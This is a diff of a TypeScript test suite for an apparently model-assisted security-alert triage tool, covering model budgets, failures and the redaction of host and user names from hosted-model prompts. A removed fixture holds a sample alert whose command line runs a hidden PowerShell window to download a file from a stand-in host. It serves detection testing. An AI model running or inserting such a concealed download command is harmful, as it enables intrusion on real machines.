@@ -1,72 +1,9 @@
 import assert from "node:assert/strict";
 import { describe, test } from "node:test";
-import type { Alert } from "../../core/alert/alert.ts";
-import { emptyFields } from "../../core/event/event.ts";
 import { verifyAnswers } from "../../core/evidence/answer.ts";
-import type { DomainEvent, RunState } from "../../core/run/run.ts";
-import { nextRunStep } from "../../stages/next.ts";
-import { alertOf, minuteMs, noonMs, placed } from "../../testing/alerts.ts";
+import { caseWith, closing, hostileReading, saying, suspicious } from "../../testing/model-scene.ts";
 import { smallWorld } from "../../testing/small-world.ts";
-import { allowing, emptyAnswers, failedAnswer, modelParts, type Telling, toldModel, wordTools } from "../../testing/told-model.ts";
-import { investigateStep } from "../investigate-step.ts";
-import { eventsIn } from "../journal/read-opened.ts";
-import { caseRecordOf, openRecorder, type Recorder } from "../recorder.ts";
-import type { World } from "../world.ts";
-
-const command =
-  "powershell -NoProfile -WindowStyle Hidden -Command Invoke-WebRequest http://files.example.test/a.txt -OutFile C:\\t\\a.txt";
-const quote = "-WindowStyle Hidden";
-
-/** One machine, one account, one long command line. */
-const suspicious = (parts: Partial<Alert> = {}): Alert[] => [
-  alertOf(1, {
-    timeMs: noonMs,
-    host: "ws-7.example.test",
-    user: "rhea",
-    rule: "Hidden PowerShell",
-    title: "Hidden PowerShell window",
-    severity: "medium",
-    dataset: "windows",
-    observables: [
-      { type: "ip", value: "203.0.113.7", role: "target" },
-      { type: "hash", value: "a".repeat(64), role: "file" },
-    ],
-    fields: Object.assign(emptyFields(), { CommandLine: command }),
-    ...parts,
-  }),
-];
-
-async function investigated(recorder: Recorder, world: World): Promise<RunState> {
-  for (;;) {
-    const step = nextRunStep(recorder.state);
-    if (step.do !== "investigate") return recorder.state;
-    await investigateStep(step.caseId, caseRecordOf(recorder), world);
-  }
-}
-
-const settledCase = (state: RunState) => {
-  const only = state.cases.get("case-1");
-  assert.ok(only?.status === "closed" || only?.status === "escalated");
-  return only;
-};
-
-async function caseWith(world: World, alerts = suspicious()) {
-  const recorder = await placed(alerts, world);
-  const state = await investigated(recorder, world);
-  const facts = (await eventsIn(world.journal)).map((event) => JSON.parse(event) as DomainEvent);
-  return { state, facts, settled: settledCase(state) };
-}
-
-const closing = () => wordTools(allowing);
-const hostileReading = JSON.stringify({
-  intent: "command-execution",
-  marks: [{ mark: "hides-itself", span: { from: null, to: null, quote } }],
-  entities: [],
-});
-const saying =
-  (parts: Partial<typeof emptyAnswers>): Telling =>
-  ({ role }) =>
-    ({ ...emptyAnswers, ...parts })[role];
+import { emptyAnswers, failedAnswer, modelParts, type Telling, toldModel, wordTools } from "../../testing/told-model.ts";
 
 describe("a case with a model", () => {
   test("an investigation without one asks none, and its record holds nothing of any", async () => {
@@ -185,112 +122,31 @@ describe("a case with a model", () => {
     assert.equal(settled.model?.calls[0]?.outcome?.kind, "failed");
   });
 
-  test("a model that never answers is waited for as long as its time, and no longer", async () => {
-    const slow = toldModel(() => new Promise(() => {}), { parameters: { temperature: 0, outputTokensMax: 500, timeMs: 700 } });
-    let nowMs = noonMs;
-    const slept: number[] = [];
-    const clock = {
-      nowMs: () => nowMs,
-      sleep: async (delayMs: number) => {
-        slept.push(delayMs);
-        nowMs += delayMs;
-      },
-    };
-    const models = modelParts(slow, { budget: { "seconds-per-case": 3 } });
-    const world = smallWorld({ models, tools: closing() });
-    const recorder = await placed(suspicious(), world);
-    await investigated(recorder, {
-      ...world,
-      clock: { ...clock, sleep: (delayMs) => (delayMs >= 30_000 ? new Promise(() => {}) : clock.sleep(delayMs)) },
-    });
-    const { model } = settledCase(recorder.state);
-    assert.deepEqual(
-      model?.calls.map(({ outcome }) => outcome?.kind === "failed" && outcome.why),
-      ["late", "late"],
-    );
-    assert.deepEqual(
-      model?.skipped.map(({ role, why }) => [role, why]),
-      [["writer", "budget-spent"]],
-    );
-    assert.ok(slept.reduce((sum, each) => sum + each, 0) <= 3_000 + 2_000);
-  });
-
-  test("a process that ended between question and answer leaves the reservation spent, and nothing is asked again", async () => {
-    const world = smallWorld({ tools: closing() });
-    const dying = toldModel(({ role }) => (role === "planner" ? Promise.reject(new Error("killed")) : emptyAnswers[role]));
-    const recorder = await placed(suspicious(), world);
-    const record = caseRecordOf(recorder);
-    const dead = new Error("the process ended");
-    let asks = 0;
-    const tell: typeof record.tell = async (decide) => {
-      // The planner's question is durable; its answer is not.
-      if (asks === 2) throw dead;
-      await record.tell(() => {
-        const facts = decide();
-        asks += facts.filter(({ type }) => type === "ModelAsked").length;
-        return facts;
-      });
-    };
-    await assert.rejects(investigateStep("case-1", { ...record, tell }, { ...world, models: modelParts(dying) }), dead);
-    const again = await openRecorder(world.journal, world.clock);
-    const model = toldModel(saying({}));
-    const state = await investigated(again, { ...world, models: modelParts(model) });
-    const { model: added, status } = settledCase(state);
-    assert.equal(status, "closed");
+  test("of a hosted model's prompts names stand under stand-ins, and what its rules hold back is never asked", async () => {
+    const model = toldModel(saying({}), { hosted: true });
+    await caseWith(smallWorld({ tools: closing(), models: modelParts(model) }));
     assert.deepEqual(
       model.asked.map(({ role }) => role),
-      ["writer"],
-      "neither reader nor planner is asked twice",
+      ["reader", "planner", "writer"],
     );
-    const lost = added?.calls.find(({ key }) => key === "planner");
-    assert.ok(lost?.outcome?.kind === "failed" && lost.outcome.why === "broken-off");
-    assert.equal(lost.outcome.use.inputTokens, lost.call.reservedTokens);
-    assert.equal(state.modelSpend.dayTokens, added?.tokens);
-  });
-
-  test("hundreds of cases in a storm stop at the budget of a day, and go on without a model", async () => {
-    const alerts = Array.from({ length: 30 }, (_, index) => ({
-      ...suspicious({
-        timeMs: noonMs + index * minuteMs,
-        host: `ws-${index}`,
-        user: `user-${index}`,
-        observables: [],
-        rule: `rule ${index}`,
-      })[0]!,
-      id: `a-${index + 1}`,
-    }));
-    const model = toldModel(saying({}));
-    const world = smallWorld({
-      tools: closing(),
-      models: modelParts(model, { budget: { "tokens-per-day": 20_000, "tokens-per-minute": 1_000_000 } }),
-    });
-    const recorder = await placed(alerts, world);
-    const state = await investigated(recorder, world);
-    assert.equal(state.casesSettled, state.cases.size);
-    assert.ok(state.modelSpend.dayTokens <= 20_000 && state.modelSpend.dayTokens > 15_000, `${state.modelSpend.dayTokens}`);
-    const skipped = [...state.cases.values()].filter(
-      (each) => each.status !== "unopened" && each.model?.skipped.some(({ why }) => why === "budget-spent"),
+    for (const { role, prompt } of model.asked) assert.ok(!/rhea|ws-7/i.test(prompt.system + prompt.text), role);
+    const held = toldModel(saying({}), { hosted: true });
+    const sharing = { "send-up-to": "amber", unmarked: "amber", "never-from": ["sensor"] } as const;
+    const { settled } = await caseWith(
+      smallWorld({ tools: closing(), models: modelParts(held, { sharing: { ...sharing, "never-from": [...sharing["never-from"]] } }) }),
     );
-    assert.ok(skipped.length > 10);
-  });
-
-  test("a server that fails again and again is left alone", async () => {
-    const alerts = Array.from({ length: 12 }, (_, index) => ({
-      ...suspicious({
-        timeMs: noonMs + index * minuteMs,
-        host: `ws-${index}`,
-        user: `user-${index}`,
-        observables: [],
-        rule: `rule ${index}`,
-      })[0]!,
-      id: `a-${index + 1}`,
-    }));
-    const model = toldModel(() => failedAnswer("unreachable"));
-    const world = smallWorld({ tools: closing(), models: modelParts(model) });
-    const recorder = await placed(alerts, world);
-    const state = await investigated(recorder, world);
-    assert.equal(model.asked.length, 5);
-    const last = state.cases.get(`case-${state.cases.size}`);
-    assert.ok(last && last.status !== "unopened" && last.model?.skipped.every(({ why }) => why === "breaker-open"));
+    assert.deepEqual(held.asked.map(({ role }) => role).includes("reader"), false);
+    assert.deepEqual(
+      settled.model?.skipped.map(({ role, why }) => [role, why]),
+      [["reader", "withheld"]],
+    );
+    const red = toldModel(saying({}), { hosted: true });
+    await caseWith(
+      smallWorld({
+        tools: closing(),
+        models: modelParts(red, { sharing: { "send-up-to": "green", unmarked: "amber", "never-from": [] } }),
+      }),
+    );
+    assert.equal(red.asked.length, 0);
   });
 });
